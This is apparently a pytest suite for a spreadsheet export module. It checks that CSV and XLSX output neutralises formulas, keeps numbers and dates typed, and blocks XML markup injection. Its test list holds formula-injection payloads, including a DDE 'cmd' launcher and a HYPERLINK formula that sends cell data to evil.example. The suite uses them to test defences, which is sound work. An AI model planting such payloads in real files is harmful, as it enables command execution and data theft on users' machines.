"""What spreadsheet programs find in a file: the text that somebody wrote, numbers, dates, and never a formula."""

import csv
import io
import re
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from core.portal.spreadsheets import MAX_CELL_LENGTH, Cell, write_csv, write_xlsx

BERLIN = ZoneInfo("Europe/Berlin")

# Each would be a formula, or begin one where a program splits at semicolons, in a file that leaves it as it is.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\tharmless",
    "\rharmless",
    "  =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "“=1+1”",
    "' \" =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    "\u22121+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "@import",
    "+49 30 123456",
    "harmless;=1+1",
    'harmless"; =1+1;"',
    "harmless\n=1+1",
    "harmless\r\n@SUM(1,1)",
    "harmless\t+1+1",
    "\x00=1+1",
    "\x01\x02=1+1",
]

HARMLESS = [
    "Knots That Hold",
    "1 + 1 = 2",
    "jane@example.com",
    "well-known",
    "a, -b",
    'O\'Hara says "no"',
    "Zoë, Ünal, 李, 🎓",
    "two\nlines",
    "<r><t>x</t></r>",
    "&amp; <b>",
    "#N/A",
    "#REF!",
    "TRUE",
    "0123",
    "1e5",
    "_x003D_1+1",
]


def read_csv(rows: Sequence[Sequence[Cell]], *, delimiter: str = ",") -> list[list[str]]:
    written = b"".join(write_csv(["A"], [rows])).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(written, newline=""), delimiter=delimiter))[1:]


def read_xlsx(rows: Sequence[Sequence[Cell]], header: Sequence[str] = ("A",)) -> list[list[Any]]:
    with write_xlsx("List", header, [rows]) as file:
        return [list(row) for row in load_workbook(file)["List"].iter_rows()]


def begins_a_formula(cell: str) -> bool:
    bare = re.sub(r"^[\s\"“”\u200b\ufeff]+", "", cell)
    return cell.startswith(("\t", "\r")) or bare[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20\u2212")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_is_text_in_csv(text: str) -> None:
    [[cell]] = read_csv([[text]])

    assert "'" in cell
    assert not begins_a_formula(cell)
    # Nothing is lost but what no program shows.
    assert cell.replace("'", "") == re.sub(r"[\x00-\x02]", "", text).replace("'", "")


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_a_program_that_splits_elsewhere_finds_no_formula_either(text: str, delimiter: str) -> None:
    for row in read_csv([["first", text, "last"]], delimiter=delimiter):
        assert not any(begins_a_formula(cell) for cell in row), row


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_every_text_is_text_in_xlsx(text: str) -> None:
    rows = read_xlsx([[text, "next"]])

    assert [cell.data_type for cell in rows[1]] == ["s", "s"]
    expected = re.sub(r"[\x00-\x02]", "", text).replace("\r\n", "\n").replace("\r", "\n")
    assert _shown(rows[1][0].value) == expected
    assert rows[1][1].value == "next"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone_in_csv(text: str) -> None:
    assert read_csv([[text]]) == [[text]]


@pytest.mark.parametrize("number", [0, 7, -7, 10**14, 1.5, -0.25, Decimal("-3.50")])
def test_numbers_stay_numbers(number: Any) -> None:
    assert read_csv([[number]]) == [[str(number)]]
    cell = read_xlsx([[number]])[1][0]
    assert (cell.data_type, cell.value) == ("n", number)


@pytest.mark.parametrize("number", [10**15, -(10**18), float("inf"), float("nan"), Decimal("NaN")])
def test_numbers_that_a_program_would_change_are_text_in_xlsx(number: Any) -> None:
    cell = read_xlsx([[number]])[1][0]
    assert (cell.data_type, cell.value) == ("s", str(number))


def test_an_instant_is_iso_in_csv_and_a_real_one_without_zone_in_xlsx() -> None:
    instant = datetime(2024, 1, 10, 10, 0, 0, 250000, tzinfo=UTC).astimezone(BERLIN)

    assert read_csv([[instant, date(2024, 1, 10)]]) == [["2024-01-10T11:00:00+01:00", "2024-01-10"]]
    cells = read_xlsx([[instant, date(2024, 1, 10)]])[1]
    assert [cell.value.isoformat() for cell in cells] == ["2024-01-10T11:00:00", "2024-01-10T00:00:00"]
    assert [cell.is_date for cell in cells] == [True, True]


def test_what_was_before_the_programs_count_days_is_text_in_xlsx() -> None:
    cells = read_xlsx([[datetime(1899, 1, 2, 3, tzinfo=UTC), date(1900, 2, 28)]])[1]
    assert [cell.value for cell in cells] == ["1899-01-02T03:00:00+00:00", "1900-02-28"]


def test_nothing_is_an_empty_cell() -> None:
    assert read_csv([[None, "x"]]) == [["", "x"]]
    assert [cell.value for cell in read_xlsx([[None, "x"]])[1]] == [None, "x"]


@pytest.mark.parametrize("text", ["a\x00b", "a\x0bb", "a\x1fb", "a\ufffeb", "a\uffffb", "a\ud800b"])
def test_what_no_file_can_hold_is_left_out(text: str) -> None:
    assert read_csv([[text]]) == [["ab"]]
    assert read_xlsx([[text]])[1][0].value == "ab"


def test_a_text_that_is_too_long_for_a_cell_ends_with_a_mark() -> None:
    fits, does_not = "x" * MAX_CELL_LENGTH, "x" * (MAX_CELL_LENGTH + 1)

    cells = read_xlsx([[fits, does_not]])[1]

    assert cells[0].value == fits
    assert cells[1].value == "x" * (MAX_CELL_LENGTH - 1) + "…"


def test_headers_are_text_too() -> None:
    written = b"".join(write_csv(["=1+1"], [])).decode("utf-8-sig")
    [[cell]] = read_xlsx([], header=["=1+1"])

    assert written == "'=1+1\r\n"
    assert (cell.data_type, cell.value, cell.font.b) == ("s", "=1+1", True)


def test_csv_says_that_it_is_utf_8_and_comes_part_by_part() -> None:
    parts = list(write_csv(["A"], [[["1"], ["2"]], [["3"]], [["4"]]]))

    assert parts == ["\ufeffA\r\n1\r\n2\r\n".encode(), b"3\r\n", b"4\r\n"]


def test_markup_in_a_text_stays_in_its_cell() -> None:
    injected = '<r><t>x</t></r></is></c><c r="B1"><f>1+1</f></c><c r="C1" t="inlineStr"><is><r><t>y</t></r>'

    with write_xlsx("List", ["A"], [[[injected]]]) as file:
        sheet = zipfile.ZipFile(file).read("xl/worksheets/sheet1.xml").decode()

    assert "<f>" not in sheet
    assert read_xlsx([[injected]])[1][0].value == injected


def test_a_title_that_no_sheet_may_have_is_made_fit() -> None:
    with write_xlsx("What [is]: this? " * 5, ["A"], []) as file:
        [name] = load_workbook(file).sheetnames

    assert len(name) <= 31
    assert not set(name) & set("[]:*?/\\")


def _shown(value: str) -> str:
    """As a program shows what the file escapes."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), value)


@pytest.mark.parametrize("text", ["\n" * 300_000, " \t" * 150_000, ";\n'" * 100_000, "=1+1\n" * 60_000], ids=range(4))
def test_however_long_a_text_is_each_of_its_characters_is_looked_at_a_few_times(text: str) -> None:
    """Were each looked at once for every one before it, this would take hours."""
    [_, row] = b"".join(write_csv(["Text"], [[[text]]])).decode("utf-8-sig").split("\r\n", 1)
    assert len(row) >= len(text)

    with write_xlsx("Long", ["Text"], [[[text]]]) as file:
        [(head,), (cell,)] = load_workbook(file).active.iter_rows(values_only=True)
    assert (head, len(cell)) == ("Text", MAX_CELL_LENGTH)
